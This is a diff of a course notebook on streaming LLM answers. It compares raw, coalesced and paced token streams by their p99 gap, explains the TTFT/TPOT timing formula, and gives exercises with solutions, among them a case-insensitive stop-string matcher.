 
 # %% [markdown]
-# ## 10.7 Is a smooth stream a fast one?
+# ## 10.7 Is a smooth stream a fast stream?
 #
-# Your eye reads gaps, not averages. Take the recorded stream and treat it three ways:
-# as it came; with eight events coalesced, as a proxy might; and paced, one piece
-# every mean gap, started late enough that no piece is missing when its turn comes.
-# Which has the smallest gap at the 99th percentile?
+# Your eye notices gaps, not averages. So take the recorded stream and treat it in three
+# ways. It may be shown *as it came*. It may be *coalesced*: a proxy collects eight
+# events and passes them on together. It may be *paced*: one piece is shown in every
+# mean gap, and the first one is shown late enough that no piece is missing when its
+# turn comes. Which way has the smallest gap at the 99th percentile (p99)?
 
 # %%
 guess_smooth = lab.predict(
@@ -484,25 +601,21 @@ guess_smooth = lab.predict(
 guess_smooth
 
 # %%
-from itertools import pairwise
+came = [chunk.time_s * 1000 for chunk in story.chunks() if chunk.text]  # ms
+last = len(came) - 1
+coalesced = [came[min(i | 7, last)] for i in range(len(came))]  # with its eighth
+gap = (came[-1] - came[0]) / last
+delay = max(time - came[0] - gap * i for i, time in enumerate(came))
+paced = [came[0] + delay + gap * i for i in range(len(came))]
 
+# %% tags=["plumbing", "nbval-check-output"]
 from labkit.figures.pace import percentile
 
-came = [c.time_s * 1000 for c in story.chunks() if c.text]  # ms
-n = len(came)
-joined = [came[min(i | 7, n - 1)] for i in range(n)]  # each waits for its eighth
-gap = (came[-1] - came[0]) / (n - 1)
-lag = max(t - came[0] - gap * i for i, t in enumerate(came))  # so that none is missing
-paced = [came[0] + lag + gap * i for i in range(n)]
-
-
-# %% tags=["nbval-check-output"]
-def gaps_of(times):
-    return [b - a for a, b in pairwise(times)]
-
-
-ways = {"as it came": came, "coalesced by 8": joined, "paced": paced}
-p99 = {name: percentile(gaps_of(times), 99) for name, times in ways.items()}
+ways = {"as it came": came, "coalesced by 8": coalesced, "paced": paced}
+p99 = {
+    name: percentile([b - a for a, b in pairwise(times)], 99)
+    for name, times in ways.items()
+}
 rows = [
     (name, f"{times[0]:.1f}", f"{times[-1]:.1f}", f"{p99[name]:.1f}")
     for name, times in ways.items()
@@ -512,83 +625,68 @@ lab.table(["stream", "first text, ms", "last text, ms", "p99 gap, ms"], rows)
 # %%
 guess_smooth.reveal(min(p99, key=p99.__getitem__))
 
-# %% tags=["nbval-check-output"]
-late = paced[-1] - came[-1]
-claim("coalescing does not make the end later", joined[-1] == came[-1])
+# %% tags=["plumbing", "nbval-check-output"]
+claim("Coalescing does not make the end later.", coalesced[-1] == came[-1])
 claim(
-    "but its worst gap is the largest",
-    max(p99, key=p99.__getitem__) == "coalesced by 8",
+    "Coalescing has the largest p99 gap of the three.",
+    max(p99.values()) == p99["coalesced by 8"] > p99["as it came"],
 )
-claim(
-    "pacing has the smallest, and pays for it with delay",
-    min(p99, key=p99.__getitem__) == "paced" and late >= 0,
-)
+smallest = min(p99, key=p99.__getitem__)
+claim("Pacing has the smallest p99 gap of the three.", smallest == "paced")
+claim("Pacing makes the first text later.", paced[0] > came[0])
 
 # %% [markdown]
-# **In production.** Vercel's AI SDK ships pacing as `smoothStream`: whole words, 10
-# ms apart unless you say otherwise
+# **Why.** With *N* tokens, the whole answer takes
+# $\mathrm{E2E}=\mathrm{TTFT}+\mathrm{TPOT}\,(N-1)$, where E2E is the time from the
+# request to the last token (*end to end*), in seconds. Pacing changes no token's
+# computation. It buys equal gaps with a later start.
+#
+# **In production.** Vercel's AI SDK has pacing as `smoothStream`: whole words, 10 ms
+# apart unless you say otherwise
 # ([reference](https://v6.ai-sdk.dev/docs/reference/ai-sdk-core/smooth-stream), read
-# November 2026). It needs a word boundary, so the reference asks you to bring your
-# own rule for Japanese or Chinese. Formulas: with *N* tokens and the mean time per
-# output token TPOT, $\mathrm{E2E}=\mathrm{TTFT}+\mathrm{TPOT}\,(N-1)$; a reader sees
-# $\mathrm{TTFT}+t_{flush}+t_{held}$.
+# November 2026). It finds words by their blanks, so the reference asks you to bring a
+# rule of your own for Japanese or Chinese.
 
 # %% [markdown]
 # ## What you may have heard
 #
-# | you may have heard | what settles it |
+# | You may have heard | What settles it |
 # |---|---|
-# | "The typing effect is fake." | 10.1: the server stamps each token. |
-# | "TTFT is the model's latency." | 10.1: same prompt, same model, plus a queue. |
-# | "Clean each chunk and you are safe." | 10.5: only the whole has the image. |
-# | "Usage always arrives." | 10.3: cut the stream before its last chunk. |
+# | "The typing effect is an animation." | The claim below shows that it is not. |
+# | "The TTFT is the latency of the model." | Section 10.1 shows what is added. |
+# | "If every piece is cleaned, the page is safe." | Section 10.5 shows it is not. |
+# | "The usage always arrives." | Section 10.3: a lost connection takes it along. |
 
 # %% tags=["nbval-check-output"]
+lab.section()  # asks nothing first
 tokens = plain.marks_named("token")
 claim(
-    "tokens are born one after another",
+    "The server makes the tokens of an answer one after another.",
     all(a.time_s < b.time_s for a, b in pairwise(tokens)),
 )
 
 # %% [markdown]
 # ## Exercises
 #
-# **1.** TTFT is 800 ms, TPOT is 20 ms, the answer has 101 tokens. When does the last
-# one arrive, in seconds? Put your number, or a function of (ttft_s, tokens, tpot_s),
-# in place of `...` and run the cell.
+# Put your answer in place of `...` and run the cell. `lab.hint("10.1")` gives a hint.
+#
+# **1.** The TTFT is 800 ms, the TPOT is 20 ms, and the answer has 101 tokens. When does
+# the last token arrive, in seconds? Give a number, or a function of
+# `(ttft_s, tokens, tpot_s)`.
 
 # %% tags=["exercise", "nbval-check-output"]
 lab.check("10.1", ...)
-
-# %% [markdown]
-# <details><summary>Hint</summary>
-#
-# The first token comes after TTFT. How many are left, and what does each add?
-# </details>
-# <details><summary>Solution</summary>
-#
-# 0.8 + 100 · 0.02, in the next cell.
-# </details>
 
 # %% tags=["solution", "nbval-check-output"]
 lab.check("10.1", lambda ttft_s, tokens, tpot_s: ttft_s + tpot_s * (tokens - 1))
 
 # %% [markdown]
-# **2.** Write `events(tokens)`: how many events carry text, given the bytes of each
-# token? For the Korean sentence it must give what you saw in 10.2.
+# **2.** Write a function `events(tokens)`. It gets the bytes of each token and returns
+# how many events carry text. For the Korean sentence it has to return what you saw in
+# section 10.2.
 
 # %% tags=["exercise", "nbval-check-output"]
 lab.check("10.2", ...)
-
-# %% [markdown]
-# <details><summary>Hint</summary>
-#
-# `codecs.getincrementaldecoder("utf-8")` keeps an unfinished character for you.
-# </details>
-# <details><summary>Solution</summary>
-#
-# Feed each token and count the texts that are not empty, in the next cell.
-# </details>
 
 # %% tags=["solution", "nbval-check-output"]
 import codecs
@@ -600,59 +698,82 @@ def events(tokens):
 
 
 claim(
-    "your function agrees with 10.2",
+    "The function agrees with section 10.2.",
     events(map(lab.tokenizer.token_bytes, ids)) == len(visible),
 )
 lab.check("10.2", events)
 
 # %% [markdown]
-# **3.** A renderer parses everything again at each of *n* equal chunks. What does it
-# pay, in chunk-parses, for *n* = 200? And for any *n*?
+# **3.** A renderer parses everything again at each of *n* equal chunks. How many chunks
+# does it parse in all for *n* = 200? Give a number, or a function of `n`.
 
 # %% tags=["exercise", "nbval-check-output"]
 lab.check("10.3", ...)
-
-# %% [markdown]
-# <details><summary>Hint</summary>
-#
-# Chunk *k* makes it parse *k* chunks. Add up 1 + 2 + … + *n*.
-# </details>
-# <details><summary>Solution</summary>
-#
-# *n*(*n* + 1)/2, in the next cell.
-# </details>
 
 # %% tags=["solution", "nbval-check-output"]
 lab.check("10.3", lambda n: n * (n + 1) // 2)
 
 # %% [markdown]
-# ## Where you are
-#
-# The request has come back up: ids became characters, characters became events,
-# events became something to read. Here is its life once more, with this layer's
-# share.
+# **4. Change the engine.** Users write `user:` or `USER:` where the stop string is
+# `User:`. Write a stop matcher that ignores upper and lower case. It has to keep what
+# the engine's own matcher keeps: no text is lost, no part of a stop string is shown,
+# and nothing waits without need. Give the class, for example `class
+# AnyCase(StopMatcher)`. Here is the engine's own.
 
 # %%
+lab.source(StopMatcher)
+
+# %% tags=["exercise", "nbval-check-output"]
+lab.check("10.4", ...)
+
+
+# %% tags=["solution", "nbval-check-output"]
+def one_case(text):  # of the same length, whatever the text is
+    return "".join(c.lower() if len(c.lower()) == 1 else c for c in text)
+
+
+class AnyCase(StopMatcher):
+    def __init__(self, stops):
+        super().__init__([one_case(stop) for stop in stops])
+
+    def _first_hit(self, text):
+        return super()._first_hit(one_case(text))
+
+    def _num_to_hold(self, text):
+        return super()._num_to_hold(one_case(text))
+
+
+lab.check("10.4", AnyCase)
+
+# %% [markdown]
+# ## Where you are
+#
+# The answer has come back up: token ids became characters, characters became events,
+# and events became something to read. The picture shows the request's life once more,
+# with this layer's part lit.
+
+# %% tags=["plumbing"]
 from labkit.figures.timeline import life
 
 own = life(recorded).cells[Layer.STREAMING.chapter - 1]
 answer = lab.replay_streams("streams")
 num_bytes = len(b"".join(answer.frames("openai")))
 lab.md(
-    f"This layer took **{own.ms:.2f} ms** of {recorded.end_s * 1000:.0f} ms, made "
+    f"This layer took **{own.ms:.2f} ms** of {recorded.end_s * 1000:.0f} ms. It made "
     f"**{num_bytes:,} bytes** of events out of {len(answer.text().encode())} bytes of "
-    "text, and costs nothing on the bill: tokens are charged, frames are not."
+    "text. It costs nothing on the bill, because tokens are charged and events are not."
 )
 
 # %%
 TraceBar(recorded, lit=Layer.STREAMING)
 
 # %% [markdown]
-# **What production systems do differently.** They put a proxy or two in between and
-# turn buffering off there; they render on the page with frameworks that batch updates
-# by frame; they keep a stream resumable by an id, which ours is not; and they watch
-# percentiles over millions of streams where you watched one. **Next door**: in
-# chapter 11 the answer is not text for you but a call to a tool.
+# **What production systems do differently.** They have a proxy or two in between, and
+# turn its buffering off. Their pages use frameworks that collect the changes of a
+# frame. They can resume a stream by an id, which our server cannot. They watch
+# percentiles over millions of streams where you watched one.
+#
+# **Next door.** In chapter 11 the answer is no text for you but a call to a tool.
 
 # %% [markdown]
 # ## Sources
